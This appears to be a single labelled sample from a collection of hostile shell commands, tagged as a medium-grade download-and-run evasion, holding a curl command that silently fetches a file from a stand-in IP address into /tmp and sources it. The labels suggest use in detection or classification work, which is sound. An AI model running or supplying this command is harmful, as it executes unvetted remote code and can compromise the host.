# evasion: a downloaded file sourced
# grade: medium; does: download-run
curl -so /tmp/a http://203.0.113.5/a && . /tmp/a
